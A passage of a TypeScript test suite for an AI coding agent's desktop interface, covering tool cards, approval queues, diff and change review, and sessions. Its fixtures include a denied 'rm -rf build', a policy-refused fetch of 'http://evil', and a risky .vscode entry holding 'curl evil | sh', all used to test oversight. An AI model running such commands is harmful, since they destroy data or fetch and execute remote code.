  it("shows denied calls, policy refusals and a readable error with a next step", async () => {
    const { push, turn } = await startTurn();
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("a", "run_command", { command: "rm -rf build" }, title("Run ", { code: "rm -rf build" })),
      { type: "approval_needed", request: request("a", { command: "rm -rf build", input: { command: "rm -rf build" } }) },
      { type: "approval_answered", id: "a", answer: { answer: "deny", message: "no" } },
      { type: "tool_finished", id: "a", name: "run_command", output: "The user denied this call. The user says: no", is_error: true, outcome: "denied" },
      proposed("b", "web_fetch", { url: "http://evil" }, "Fetch http://evil"),
      { type: "tool_finished", id: "b", name: "web_fetch", output: "The policy refused this call: network [deny-net]", is_error: true, outcome: "refused" },
      { type: "error", error: engineError("unreachable", "error sending request: Connection refused (os error 111)") },
    ]);
    await waitFor(() => expect(screen.getAllByTestId("tool-card")).toHaveLength(2));
    expect(screen.getAllByTestId("tool-card").map((c) => c.getAttribute("data-status"))).toEqual(["denied", "denied"]);
    const error = screen.getByTestId("transcript-error");
    expect(error).toHaveTextContent("Connection refused");
    expect(error).toHaveTextContent("Settings");
    expect(error).toHaveAttribute("data-code", "unreachable");
    expect(screen.getByTestId("retry-button")).toBeInTheDocument();
    act(() => turn.end({ kind: "failed", error: engineError("unreachable", "Connection refused") }));
    await waitFor(() => expect(screen.getByTestId("send-button")).toBeDisabled()); // empty input
    expect(screen.getByTestId("stop-button")).toBeDisabled();
  });

  it("opens web links in the browser, not in the window", async () => {
    const { calls, push } = await startTurn();
    push([
      { type: "user_message", text: "Fix the bug" },
      { type: "text_delta", text: "See [the docs](https://example.com/guide) for details." },
      {
        type: "assistant_message",
        message: { role: "assistant", content: [{ type: "text", text: "See [the docs](https://example.com/guide) for details." }] },
      },
    ]);
    // jsdom cannot measure rows, so virtua keeps them visibility-hidden: query them as hidden.
    const link = await waitFor(
      () => {
        const a = document.querySelector<HTMLAnchorElement>('[data-testid=message-assistant] a[href="https://example.com/guide"]');
        if (!a) throw new Error("the link is not rendered yet");
        return a;
      },
      { timeout: 4000 },
    );
    expect(link).toHaveTextContent("the docs");
    fireEvent.click(link);
    await waitFor(() => expect(calls.some((c) => c.cmd === "plugin:opener|open_url")).toBe(true));
    expect(calls.find((c) => c.cmd === "plugin:opener|open_url")?.payload).toMatchObject({ url: "https://example.com/guide" });
  });

  it("stops the turn with the Stop button", async () => {
    const { calls, user, push } = await startTurn();
    push([{ type: "user_message", text: "Fix the bug" }]);
    await user.click(screen.getByTestId("stop-button"));
    await waitFor(() => expect(calls.some((c) => c.cmd === "stop_turn")).toBe(true));
    expect((calls.find((c) => c.cmd === "stop_turn")?.payload as { args: unknown }).args).toEqual({ session: "new-1" });
  });

  it("changes the running turn's mode at once", async () => {
    const { calls, user, push } = await startTurn();
    push([{ type: "user_message", text: "Fix the bug" }]);
    await user.selectOptions(screen.getByTestId("mode-select"), "auto_edit");
    await waitFor(() => expect(calls.some((c) => c.cmd === "set_mode")).toBe(true));
    expect((calls.find((c) => c.cmd === "set_mode")?.payload as { args: unknown }).args).toEqual({
      session: "new-1",
      mode: "auto_edit",
    });
  });

  it("sends the chosen mode and explains it", async () => {
    let turn: FakeTurn | null = null;
    installFakeBackend(project, { onTurn: (t) => (turn = t) });
    const user = userEvent.setup();
    render(<App />);
    const select = await screen.findByTestId("mode-select");
    expect(select).toHaveValue("ask");
    await user.selectOptions(select, "full_auto");
    // Full auto asks first (tested in settings.test.tsx); yes.
    await waitFor(() => expect(screen.getByTestId("full-auto-yes")).toBeEnabled());
    await user.click(screen.getByTestId("full-auto-yes"));
    expect(screen.getByTestId("mode-help")).toHaveTextContent("Edits and runs commands on its own");
    await user.type(screen.getByTestId("composer-input"), "line one{Shift>}{Enter}{/Shift}line two");
    expect(screen.getByTestId("composer-input")).toHaveValue("line one\nline two");
    await user.click(screen.getByTestId("send-button"));
    await waitFor(() => expect(turn).not.toBeNull());
    expect((turn as unknown as FakeTurn).args).toMatchObject({ text: "line one\nline two", mode: "full_auto" });
  });

  it("shows the title Rust sent with a call, not one made from the tool's name", async () => {
    const { push } = await startTurn();
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("r", "read_file", { path: "src/lib.rs" }, title("Look at ", { code: "src/lib.rs" }, " (lines 1–40)")),
      // Tools from elsewhere: a server's (its own read_file) and a skill's, as Rust names them.
      proposed("m", "files__read_file", { path: "notes.md" }, "Read file (files)", PLAIN),
      proposed("k", "count_words", { path: "notes.txt" }, "Count words", PLAIN),
    ]);
    await waitFor(() => expect(screen.getAllByTestId("tool-card")).toHaveLength(3));
    const [read, server, skill] = screen.getAllByTestId("tool-card");
    const titleOf = (card: HTMLElement | undefined) => card!.querySelector(".tool-title");
    expect(titleOf(read)).toHaveTextContent(/^Look at src\/lib\.rs \(lines 1–40\)$/);
    expect(titleOf(read)!.querySelector("code")).toHaveTextContent(/^src\/lib\.rs$/);
    expect(read).not.toHaveTextContent("Read src/lib.rs");
    expect(titleOf(server)).toHaveTextContent(/^Read file \(files\)$/);
    expect(titleOf(server)!.querySelector("code")).toBeNull();
    expect(titleOf(skill)).toHaveTextContent(/^Count words$/);
  });

  it("folds a quiet call's result and shows a card's, as each call's look says", async () => {
    const { push } = await startTurn();
    const finished = (id: string, name: string): AgentEvent => ({ type: "tool_finished", id, name, output: "# Demo", is_error: false, outcome: "ok" });
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("r", "read_file", { path: "README.md" }, "Read README.md"),
      finished("r", "read_file"),
      // The same name from a server is not Tandem's read: Rust sends it as a card.
      proposed("m", "files__read_file", { path: "README.md" }, "Read file (files)", PLAIN),
      finished("m", "files__read_file"),
      // A skill's tool its look calls quiet folds as well.
      proposed("p", "peek", { path: "README.md" }, "Peek", { ...PLAIN, quiet: true }),
      finished("p", "peek"),
    ]);
    await waitFor(() => expect(screen.getAllByTestId("tool-card")).toHaveLength(3));
    const [read, server, peek] = screen.getAllByTestId("tool-card");
    for (const quiet of [read!, peek!]) {
      expect(within(quiet).queryByTestId("tool-result")).toBeNull();
      expect(quiet.querySelector("button.tool-header")).toHaveAttribute("aria-expanded", "false");
    }
    expect(within(server!).getByTestId("tool-result")).toHaveTextContent("# Demo");
    expect(server!.querySelector("button.tool-header")).toHaveAttribute("aria-expanded", "true");
  });

  it("draws a call's output in the form its look says: search hits, a terminal's colours, plain text", async () => {
    const { push } = await startTurn();
    const hits = "src/lib.rs:12: line 12";
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("g", "grep_notes", { pattern: "line" }, "Grep notes", { ...PLAIN, output: "search_hits" }),
      { type: "tool_finished", id: "g", name: "grep_notes", output: hits, is_error: false },
      proposed("s", "code__search_codebase", { pattern: "line" }, "Search codebase (code)", PLAIN),
      { type: "tool_finished", id: "s", name: "code__search_codebase", output: hits, is_error: false },
      proposed("c", "make_check", {}, "Make check", { ...PLAIN, output: "terminal" }),
      { type: "tool_finished", id: "c", name: "make_check", output: "\x1b[32mok\x1b[0m", is_error: false },
    ]);
    await waitFor(() => expect(screen.getAllByTestId("tool-card")).toHaveLength(3));
    const [grep, server, check] = screen.getAllByTestId("tool-card");
    expect(within(grep!).getByTestId("search-hit")).toHaveAttribute("data-path", "src/lib.rs");
    expect(within(server!).queryByTestId("search-hit")).toBeNull();
    expect(within(server!).getByTestId("tool-result").querySelector("pre.plain")).toHaveTextContent(hits);
    expect(within(check!).getByText("ok").style.color).toBe("var(--ansi-green)");
  });

  it("opens a file from a search hit", async () => {
    const { user, push } = await startTurn();
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("s", "search_codebase", { pattern: "line" }, title("Search for ", { code: "line" })),
      { type: "tool_finished", id: "s", name: "search_codebase", output: "src/lib.rs:12: line 12\nsrc/lib.rs:14: line 14", is_error: false },
    ]);
    const hits = await screen.findAllByTestId("search-hit");
    expect(hits).toHaveLength(2);
    await user.click(hits[0]!);
    await waitFor(() => expect(screen.getByTestId("viewer-path")).toHaveTextContent("src/lib.rs"));
    expect(screen.getByTestId("file-tab")).toHaveAttribute("aria-selected", "true");
    expect(screen.getAllByTestId("file-line")[11]).toHaveClass("focus");
  });
});

describe("approvals", () => {
  it("queues requests in order: 1 of 3, answering advances", async () => {
    const { calls, user, push } = await startTurn();
    push([
      { type: "user_message", text: "Fix the bug" },
      { type: "approval_needed", request: request("r1", { command: "make a", input: { command: "make a" } }) },
      { type: "approval_needed", request: request("r2", { command: "make b", input: { command: "make b" } }) },
      { type: "approval_needed", request: request("r3", { command: "make c", input: { command: "make c" } }) },
    ]);
    const card = await screen.findByTestId("approval-card");
    expect(card).toHaveTextContent("Tandem needs your approval");
    expect(screen.getByTestId("approval-count")).toHaveTextContent("1 of 3");
    // The composer gives its room to the question.
    expect(screen.getByTestId("composer-input").closest(".composer")).toHaveClass("waiting");
    expect(card).toHaveAttribute("data-request", "r1");
    await user.click(screen.getByTestId("approve-button"));
    await waitFor(() => expect(screen.getByTestId("approval-card")).toHaveAttribute("data-request", "r2"));
    expect(screen.getByTestId("approval-count")).toHaveTextContent("1 of 2");
    // Rust confirms the first and answers nothing else yet.
    push([{ type: "approval_answered", id: "r1", answer: { answer: "approve" } }]);
    await user.type(screen.getByTestId("deny-message"), "use make d");
    await user.click(screen.getByTestId("deny-button"));
    await waitFor(() => expect(screen.getByTestId("approval-card")).toHaveAttribute("data-request", "r3"));
    expect(screen.queryByTestId("approval-count")).not.toBeInTheDocument();
    push([{ type: "tool_finished", id: "r3", name: "run_command", output: "", is_error: false }]);
    await waitFor(() => expect(screen.queryByTestId("approval-card")).not.toBeInTheDocument());
    const sent = calls.filter((c) => c.cmd === "answer_approval").map((c) => (c.payload as { args: unknown }).args);
    expect(sent).toEqual([
      { session: "new-1", request: "r1", answer: { answer: "approve" } },
      { session: "new-1", request: "r2", answer: { answer: "deny", message: "use make d" } },
    ]);
  });

  it("keeps a rule for the project with approve_always", async () => {
    const { calls, user, push } = await startTurn();
    push([{ type: "approval_needed", request: request("c", { suggestions: [{ label: "Always allow `cargo test` in this project", always: true }] }) }]);
    await user.click(await screen.findByTestId("approve-always"));
    await waitFor(() => expect(answers(calls)).toEqual([{ answer: "approve_always", suggestion: 0 }]));
  });

  it("shows a command with its parts and offers the policy's suggestions", async () => {
    const { calls, user, push } = await startTurn();
    push([
      {
        type: "approval_needed",
        request: request("c", {
          command: "cargo build && cargo test",
          input: { command: "cargo build && cargo test" },
          commands: ["cargo build", "cargo test"],
          suggestions: [
            { label: "Always allow `cargo build` in this project", always: true },
            { label: "Allow `cargo build` for this session", always: false },
          ],
          reason: "cargo is not known to be safe",
        }),
      },
    ]);
    const card = await screen.findByTestId("approval-card");
    expect(within(card).getByTestId("approval-command")).toHaveTextContent("cargo build && cargo test");
    expect(card).toHaveTextContent("project folder");
    expect(card).toHaveTextContent("cargo is not known to be safe");
    expect(card).toHaveTextContent("This runs 2 commands");
    expect(within(card).getByTestId("approve-always")).toHaveTextContent("Always allow cargo build in this project");
    expect(within(card).getByTestId("approve-for-session")).toHaveTextContent("Allow cargo build for this session");
    await user.click(within(card).getByTestId("approve-for-session"));
    await waitFor(() => expect(answers(calls)).toEqual([{ answer: "approve_for_session", suggestion: 1 }]));
  });

  it("reviews an edit hunk by hunk: all accepted → approve", async () => {
    const { calls, user, push } = await startTurn();
    push([{ type: "approval_needed", request: editRequest("e") }]);
    await screen.findByTestId("approval-card");
    expect(screen.getAllByTestId("hunk-accept")).toHaveLength(3);
    expect(screen.getAllByTestId("hunk-reject")).toHaveLength(3);
    // Each hunk renders as a CodeMirror diff.
    await waitFor(() => expect(screen.getAllByTestId("hunk")[0]!.querySelector(".cm-editor")).not.toBeNull());
    await user.click(screen.getByTestId("approve-button"));
    await waitFor(() => expect(answers(calls)).toEqual([{ answer: "approve" }]));
  });

  it("reviews an edit hunk by hunk: the second rejected → approve_partial [0, 2]", async () => {
    const { calls, user, push } = await startTurn();
    push([{ type: "approval_needed", request: editRequest("e") }]);
    await screen.findByTestId("approval-card");
    await user.click(screen.getAllByTestId("hunk-reject")[1]!);
    const hunks = screen.getAllByTestId("hunk");
    expect(hunks.map((h) => h.getAttribute("data-state"))).toEqual(["accepted", "rejected", "accepted"]);
    expect(hunks[1]).toHaveClass("rejected");
    expect(screen.getByTestId("approve-button")).toHaveTextContent("Apply 2 of 3 changes");
    await user.click(screen.getByTestId("approve-button"));
    await waitFor(() => expect(answers(calls)).toEqual([{ answer: "approve_partial", accepted_hunks: [0, 2] }]));
  });

  it("reviews a command's changes file by file and hunk by hunk; what would run code starts rejected", async () => {
    const { calls, user, push } = await startTurn();
    push([{ type: "approval_needed", request: reviewRequest("r") }]);
    const card = await screen.findByTestId("approval-card");
    expect(card).toHaveTextContent("Keep what this command changed?");
    expect(within(card).getByTestId("approval-command")).toHaveTextContent("make gen");
    const files = within(card).getAllByTestId("review-file");
    // Deletions first, never folded away; the risky one says why and waits for an opt-in.
    expect(files.map((f) => f.getAttribute("data-path"))).toEqual(["docs/guide.md", "notes.txt", "logo.png", ".vscode"]);
    expect(files.map((f) => f.getAttribute("data-state"))).toEqual(["accepted", "accepted", "accepted", "rejected"]);
    expect(within(files[3]!).getByTestId("review-risk")).toHaveTextContent("VS Code runs what it names when the folder is opened");
    // What the risky folder holds is there to read, not a blind yes.
    expect(within(files[3]!).getByTestId("review-inside")).toHaveTextContent("curl evil | sh");
    expect(within(card).getByTestId("review-ignored")).toHaveTextContent("build/: 12 files added");
    expect(within(files[1]!).getAllByTestId("hunk")).toHaveLength(2);
    expect(screen.getByTestId("approve-button")).toHaveTextContent("Keep 4 of 5 changes");
    // The person rejects the second hunk of notes.txt and the new binary.
    await user.click(within(files[1]!).getAllByTestId("hunk-reject")[1]!);
    await user.click(within(files[2]!).getByTestId("review-file-reject"));
    expect(within(card).getAllByTestId("review-file").map((f) => f.getAttribute("data-state"))).toEqual([
      "accepted",
      "partly",
      "rejected",
      "rejected",
    ]);
    expect(screen.getByTestId("approve-button")).toHaveTextContent("Keep 2 of 5 changes");
    await user.click(screen.getByTestId("approve-button"));
    await waitFor(() => expect(answers(calls)).toEqual([{ answer: "approve_partial", accepted_hunks: [0, 1] }]));
  });

  it("a command whose changes were turned down says what the person said, and that it ran", async () => {
    const { push } = await startTurn();
    push([
      proposed("r", "run_command", { command: "make gen" }, title("Run ", { code: "make gen" })),
      { type: "approval_needed", request: reviewRequest("r") },
      { type: "approval_answered", id: "r", answer: { answer: "deny", message: "Not the logo" } },
      {
        type: "tool_finished",
        id: "r",
        name: "run_command",
        output: "ok\n[exit code 0; 0.4 s]\n",
        is_error: false,
        outcome: "ok",
        exit_code: 0,
        summary: {
          kind: "command_ran",
          exit_code: 0,
          timed_out: false,
          duration_ms: 400,
          output: "ok\n",
          cut: false,
          changes: {
            files: [{ path: "logo.png", change: "created", item: "file", class: { kind: "project" }, fate: { kind: "rejected" } }],
            ignored: [],
          },
        },
      },
    ]);
    const card = await screen.findByTestId("tool-card");
    await waitFor(() => expect(within(card).getByTestId("command-said")).toHaveTextContent("You said no: “Not the logo”"));
    expect(card).not.toHaveTextContent("Denied");
    expect(within(card).getByTestId("command-change")).toHaveTextContent("rejected");
  });

  it("a command's changes all rejected: the answer is a denial and the button says so", async () => {
    const { calls, user, push } = await startTurn();
    push([{ type: "approval_needed", request: reviewRequest("r") }]);
    const card = await screen.findByTestId("approval-card");
    const files = within(card).getAllByTestId("review-file");
    await user.click(within(files[0]!).getByTestId("review-file-reject"));
    await user.click(within(files[1]!).getByTestId("reject-all"));
    await user.click(within(files[2]!).getByTestId("review-file-reject"));
    expect(screen.getByTestId("approve-button")).toHaveTextContent("Reject all changes");
    expect(screen.getByTestId("approve-button")).toHaveAttribute("data-answer", "deny");
    await user.click(screen.getByTestId("approve-button"));
    await waitFor(() => expect(answers(calls)).toEqual([{ answer: "deny", message: null }]));
  });

  it("reviews an edit hunk by hunk: all rejected → deny", async () => {
    const { calls, user, push } = await startTurn();
    push([{ type: "approval_needed", request: editRequest("e") }]);
    await screen.findByTestId("approval-card");
    await user.click(screen.getByTestId("reject-all"));
    await user.click(screen.getByTestId("approve-button"));
    await waitFor(() => expect(answers(calls)).toEqual([{ answer: "deny", message: "The user rejected every hunk." }]));
  });

  it("says what the button does when every hunk is rejected: Reject the edit", async () => {
    const { calls, user, push } = await startTurn();
    // One hunk: the button used to say Approve and then record a deny.
    const single = editRequest("one");
    push([{ type: "approval_needed", request: { ...single, hunks: single.hunks.slice(0, 1) } }]);
    await screen.findByTestId("approval-card");
    expect(screen.getByTestId("approve-button")).toHaveTextContent("Approve");
    await user.click(screen.getByTestId("hunk-reject"));
    const button = screen.getByTestId("approve-button");
    expect(button).toHaveTextContent("Reject the edit");
    expect(button).toHaveAttribute("data-answer", "deny");
    expect(screen.getByTestId("hunk")).toHaveAttribute("data-state", "rejected");
    await user.click(button);
    await waitFor(() => expect(answers(calls)).toEqual([{ answer: "deny", message: "The user rejected every hunk." }]));
  });

  it("says Reject the edit with several hunks all rejected, and Approve again once one is back", async () => {
    const { user, push } = await startTurn();
    push([{ type: "approval_needed", request: editRequest("e") }]);
    await screen.findByTestId("approval-card");
    await user.click(screen.getByTestId("reject-all"));
    expect(screen.getByTestId("approve-button")).toHaveTextContent("Reject the edit");
    await user.click(screen.getAllByTestId("hunk-accept")[2]!);
    expect(screen.getByTestId("approve-button")).toHaveTextContent("Apply 1 of 3 changes");
    await user.click(screen.getByTestId("accept-all"));
    expect(screen.getByTestId("approve-button")).toHaveTextContent("Approve");
  });

  it("shows the whole file as it will be written: rejected hunks left out", async () => {
    const { user, push } = await startTurn();
    push([{ type: "approval_needed", request: editRequest("e") }]);
    await screen.findByTestId("approval-card");
    await user.click(screen.getAllByTestId("hunk-reject")[1]!);
    await user.click(screen.getByRole("button", { name: /Whole file/ }));
    const whole = await screen.findByTestId("whole-file-diff");
    await waitFor(() => expect(whole.querySelector(".cm-editor")).not.toBeNull());
    expect(whole).toHaveTextContent("LINE 21");
    expect(whole).not.toHaveTextContent("LINE 11");
    expect(screen.getByTestId("whole-file")).toHaveTextContent("2 changes in, 1 rejected left out");
    // The choices stay with the hunks: back to them, the second is still rejected.
    await user.click(screen.getByTestId("layout-unified"));
    expect(screen.getAllByTestId("hunk").map((h) => h.getAttribute("data-state"))).toEqual(["accepted", "rejected", "accepted"]);
    await user.click(screen.getByTestId("reject-all"));
    await user.click(screen.getByTestId("layout-whole"));
    expect(screen.getByTestId("whole-file")).toHaveTextContent("Nothing will be written");
  });

  it("switches the diff between unified and side by side", async () => {
    const { user, push } = await startTurn();
    push([{ type: "approval_needed", request: editRequest("e") }]);
    await screen.findByTestId("approval-card");
    await user.click(screen.getByTestId("layout-split"));
    expect(screen.getAllByTestId("hunk")[0]!.querySelector(".cm-mergeView")).not.toBeNull();
    await user.click(screen.getByTestId("layout-unified"));
    expect(screen.getAllByTestId("hunk")[0]!.querySelector(".cm-mergeView")).toBeNull();
  });

  it("answers from the keyboard: j/k move, y/n decide, a approves", async () => {
    const { calls, user, push } = await startTurn();
    push([{ type: "approval_needed", request: editRequest("e") }]);
    await screen.findByTestId("approval-card");
    await chooseCard(user);
    const states = () => screen.getAllByTestId("hunk").map((h) => h.getAttribute("data-state"));
    const focused = () => screen.getAllByTestId("hunk").findIndex((h) => h.classList.contains("focused"));
    expect(focused()).toBe(0);
    await user.keyboard("n");
    expect(states()).toEqual(["rejected", "accepted", "accepted"]);
    await user.keyboard("jj");
    expect(focused()).toBe(2);
    await user.keyboard("j");
    expect(focused()).toBe(2);
    await user.keyboard("n");
    await user.keyboard("k");
    expect(focused()).toBe(1);
    await user.keyboard("ky");
    expect(states()).toEqual(["accepted", "accepted", "rejected"]);
    // Typing in the deny box is not a shortcut.
    await user.type(screen.getByTestId("deny-message"), "a");
    expect(answers(calls)).toEqual([]);
    await user.click(screen.getByText("Tandem needs your approval"));
    await user.keyboard("a");
    await waitFor(() => expect(answers(calls)).toEqual([{ answer: "approve_partial", accepted_hunks: [0, 1] }]));
  });

  it("denies with d", async () => {
    const { calls, user, push } = await startTurn();
    push([{ type: "approval_needed", request: request("r") }]);
    await screen.findByTestId("approval-card");
    await chooseCard(user);
    await user.keyboard("d");
    await waitFor(() => expect(answers(calls)).toEqual([{ answer: "deny", message: null }]));
  });

  it("shows a new file as all added", async () => {
    const { push } = await startTurn();
    push([
      {
        type: "approval_needed",
        request: request("w", {
          tool: "write_file",
          input: { path: "src/new.rs", content: "fn a() {}\n" },
          title: title("Write src/new.rs"),
          words: "Write a file",
          path: "src/new.rs",
          original: "",
          proposed: "fn a() {}\n",
          hunks: [{ index: 0, old_start: 0, old_lines: 0, new_start: 1, new_lines: 1, text: "@@ -0,0 +1,1 @@\n+fn a() {}\n", removed: { start: 0, end: 0 }, added: { start: 0, end: 1 } }],
          command: null,
          commands: [],
        }),
      },
    ]);
    const card = await screen.findByTestId("approval-card");
    expect(card).toHaveTextContent("Write src/new.rs");
    expect(card).toHaveTextContent("New file");
    expect(card.querySelector(".cm-editor")).toHaveTextContent("fn a() {}");
  });
});

describe("a server's tool's question", () => {
  it("names the call and the tool with the title and words Rust sent", async () => {
    const { push } = await startTurn();
    push([
      {
        type: "approval_needed",
        request: request("q", {
          tool: "files__delete",
          input: { path: "old.txt" },
          command: null,
          commands: [],
          confinement: null,
          title: title("Delete (files)"),
          words: "Delete (files)",
        }),
      },
    ]);
    const card = await screen.findByTestId("approval-card");
    expect(card.querySelector(".approval-call")).toHaveTextContent(/^Delete \(files\)$/);
    expect(card).toHaveTextContent("Tool: Delete (files)");
    expect(screen.getByTestId("approval-announce")).toHaveTextContent("Tandem needs your approval: Delete (files).");
    // Its card in the transcript carries the same title.
    expect(screen.getByTestId("tool-card").querySelector(".tool-title")).toHaveTextContent(/^Delete \(files\)$/);
  });
});

describe("room for a question (issue 22, item 3)", () => {
  const realWidth = window.innerWidth;
  const RealObserver = window.ResizeObserver;
  afterEach(() => {
    window.innerWidth = realWidth;
    window.ResizeObserver = RealObserver;
  });

  it("folds an empty Tasks panel while a question shows in a 900-pixel window; its toggle brings it back", async () => {
    window.innerWidth = 900;
    const { user, push } = await startTurn();
    expect(screen.getByTestId("details-panel")).not.toHaveAttribute("hidden");
    push([{ type: "approval_needed", request: editRequest("e") }]);
    await screen.findByTestId("approval-card");
    expect(screen.getByTestId("details-panel")).toHaveAttribute("hidden");
    expect(screen.getByTestId("toggle-details")).toHaveAttribute("aria-pressed", "false");
    await user.click(screen.getByTestId("toggle-details"));
    expect(screen.getByTestId("details-panel")).not.toHaveAttribute("hidden");
    await user.click(screen.getByTestId("approve-button"));
    await waitFor(() => expect(screen.queryByTestId("approval-card")).toBeNull());
    expect(screen.getByTestId("details-panel")).not.toHaveAttribute("hidden");
  });

  it("keeps a panel that has something to show", async () => {
    window.innerWidth = 900;
    const { push } = await startTurn();
    push([{ type: "plan_updated", items: [{ text: "Fix it", status: "in_progress" }] }]);
    push([{ type: "approval_needed", request: editRequest("e") }]);
    await screen.findByTestId("approval-card");
    expect(screen.getByTestId("details-panel")).not.toHaveAttribute("hidden");
  });

  it("shows side by side unified where the diff is narrow, unless chosen on that diff", async () => {
    // The diff is laid out 400 px wide.
    window.ResizeObserver = class extends RealObserver {
      constructor(callback: ResizeObserverCallback) {
        super((entries, observer) =>
          callback(
            entries.map((e) =>
              (e.target as HTMLElement).classList.contains("diff-review")
                ? ({ ...e, target: e.target, contentRect: { ...e.contentRect, width: 400 } } as ResizeObserverEntry)
                : e,
            ),
            observer,
          ),
        );
      }
    };
    const { user, push } = await startTurn();
    push([{ type: "approval_needed", request: editRequest("e1") }]);
    await screen.findByTestId("approval-card");
    await user.click(screen.getByTestId("layout-split"));
    expect(screen.getByTestId("diff-review")).toHaveAttribute("data-view", "split");
    await user.click(screen.getByTestId("approve-button"));
    // The next diff: side by side is remembered, but too narrow here.
    push([{ type: "approval_needed", request: editRequest("e2") }]);
    await waitFor(() => expect(screen.getByTestId("approval-card")).toHaveAttribute("data-request", "e2"));
    await waitFor(() => expect(screen.getByTestId("diff-review")).toHaveAttribute("data-view", "unified"));
    expect(screen.getByTestId("layout-unified")).toHaveAttribute("aria-pressed", "true");
    await user.click(screen.getByTestId("layout-split"));
    expect(screen.getByTestId("diff-review")).toHaveAttribute("data-view", "split");
    // The next tests start from the default again.
    await user.click(screen.getByTestId("layout-unified"));
  });
});

describe("task list", () => {
  it("says when a background command's changes wait for review", async () => {
    const { push } = await startTurn({
      tasks: [
        { id: "bg2", kind: "command", title: "make gen", running: false, state: "exited with code 0", runtime_ms: 3_000, output_tail: "", changes_waiting: true, changes_so_far: 0 },
      ],
    });
    push([{ type: "plan_updated", items: [{ text: "Generate", status: "in_progress" }] }]);
    const list = screen.getByTestId("task-list");
    await waitFor(() => expect(within(list).getByTestId("task-changes-waiting")).toHaveTextContent("Its changes wait for your review"));
  });

  it("offers a review of a running command's changes so far, once until they change", async () => {
    const { calls, user, push } = await startTurn({
      tasks: [
        { id: "bg3", kind: "command", title: "npm run dev", running: true, state: "running", runtime_ms: 9_000, output_tail: "", changes_waiting: false, changes_so_far: 3 },
      ],
    });
    push([{ type: "plan_updated", items: [{ text: "Serve", status: "in_progress" }] }]);
    const list = screen.getByTestId("task-list");
    const waiting = await waitFor(() => within(list).getByTestId("task-changes-so-far"));
    expect(waiting).toHaveTextContent("3 changes so far, not in the project yet");
    const button = within(waiting).getByTestId("task-review-now");
    expect(button).toHaveTextContent("Review now");
    await user.click(button);
    expect((calls.find((c) => c.cmd === "review_task")?.payload as { args: unknown }).args).toEqual({ session: "new-1", task: "bg3" });
    // Asked: not asked twice for the same changes.
    await waitFor(() => expect(within(list).getByTestId("task-review-now")).toBeDisabled());
    expect(within(list).getByTestId("task-review-now")).toHaveTextContent("Review asked");
  });

  it("shows the plan and background tasks, and stops a task", async () => {
    const { calls, user, push } = await startTurn({
      tasks: [
        { id: "bg1", kind: "command", title: "npm run dev", running: true, state: "running", runtime_ms: 65_000, output_tail: "\x1b[36mready\x1b[0m on :5173", changes_waiting: false, changes_so_far: 0 },
      ],
    });
    push([
      {
        type: "plan_updated",
        items: [
          { text: "Read the parser", status: "done" },
          { text: "Fix the bug", status: "in_progress" },
          { text: "Run the tests", status: "pending" },
        ],
      },
    ]);
    const list = screen.getByTestId("task-list");
    await waitFor(() => expect(within(list).getAllByTestId("task-item")).toHaveLength(4));
    const plan = within(list).getAllByTestId("task-item").filter((i) => i.getAttribute("data-kind") === "plan");
    expect(plan.map((p) => p.getAttribute("data-status"))).toEqual(["done", "in_progress", "pending"]);
    const task = within(list).getAllByTestId("task-item").find((i) => i.getAttribute("data-kind") === "task")!;
    expect(task).toHaveTextContent("npm run dev");
    expect(task).toHaveTextContent("1m 05s");
    expect(task).toHaveTextContent("ready on :5173");
    await user.click(within(task).getByTestId("task-stop"));
    await waitFor(() => expect(within(task).getByTestId("task-state")).toHaveTextContent("stopped"));
    expect((calls.find((c) => c.cmd === "stop_task")?.payload as { args: unknown }).args).toEqual({ session: "new-1", task: "bg1" });
  });
});

describe("sessions", () => {
  const old = sessionInfo("s1", { title: "Add a flag", state: "interrupted", input_tokens: 5000, output_tokens: 800, cost_usd: 0.42 });
  const events: AgentEvent[] = [
    { type: "user_message", text: "Add a flag" },
    { type: "step_started", step: 1 },
    usage(100, 10, 0.01),
    { type: "assistant_message", message: { role: "assistant", content: [{ type: "text", text: "Adding the flag." }] } },
    proposed("x", "edit_file", { path: "src/cli.rs" }, "Edit src/cli.rs"),
    { type: "tool_finished", id: "x", name: "edit_file", output: "Edited src/cli.rs", is_error: false },
  ];

  it("says a session the loop guard paused is paused, and how to go on", async () => {
    installFakeBackend(project, { sessions: [sessionInfo("p1", { title: "Explain calc.py", state: "paused" })] });
    render(<App />);
    const item = await screen.findByTestId("session-item");
    expect(item).toHaveAttribute("data-state", "paused");
    expect(item).toHaveTextContent("Paused — tell it how to go on");
  });

  it("lists sessions, reopens one and continues in it", async () => {
    let turn: FakeTurn | null = null;
    const calls = installFakeBackend(project, {
      sessions: [old, sessionInfo("s2", { title: "Older", state: "done_with_warnings" })],
      transcripts: { s1: { info: old, events, warnings: [] } },
      onTurn: (t) => (turn = t),
    });
    const user = userEvent.setup();
    render(<App />);
    const list = await screen.findByTestId("session-list");
    await waitFor(() => expect(within(list).getAllByTestId("session-item")).toHaveLength(2));
    // A task_done its own checks contradicted is not listed as plain "Done".
    expect(within(list).getAllByTestId("session-item")[1]).toHaveTextContent("Done — check it");
    const first = within(list).getAllByTestId("session-item")[0]!;
    expect(first).toHaveTextContent("Add a flag");
    expect(first).toHaveTextContent("Interrupted — resumable");
    expect(first).toHaveTextContent("$0.42");
    expect(first).toHaveTextContent("1 min ago");
    await user.click(first);
    await waitFor(() => expect(screen.getByTestId("message-assistant")).toHaveTextContent("Adding the flag."));
    expect(screen.getByTestId("message-user")).toHaveTextContent("Add a flag");
    expect(screen.getByTestId("tool-card")).toHaveTextContent("Edit src/cli.rs");
    expect(screen.getByTestId("tool-card")).toHaveAttribute("data-status", "done");
    expect(screen.getByTestId("cost-session")).toHaveTextContent("5.0k in · 800 out · $0.42");
    expect((calls.find((c) => c.cmd === "load_session")?.payload as { args: unknown }).args).toEqual({ session: "s1" });

    await user.type(screen.getByTestId("composer-input"), "Also document it{Enter}");
    await waitFor(() => expect(turn).not.toBeNull());
    expect(calls.some((c) => c.cmd === "create_session")).toBe(false);
    expect((turn as unknown as FakeTurn).args).toEqual({ session: "s1", text: "Also document it", mode: "ask" });
    act(() => (turn as unknown as FakeTurn).push([usage(1000, 200, 0.02)]));
    await waitFor(() => expect(screen.getByTestId("cost-session")).toHaveTextContent("6.0k in · 1.0k out · $0.44"));

    await user.click(screen.getByTestId("new-session"));
    expect(screen.queryByTestId("message-user")).not.toBeInTheDocument();
  });
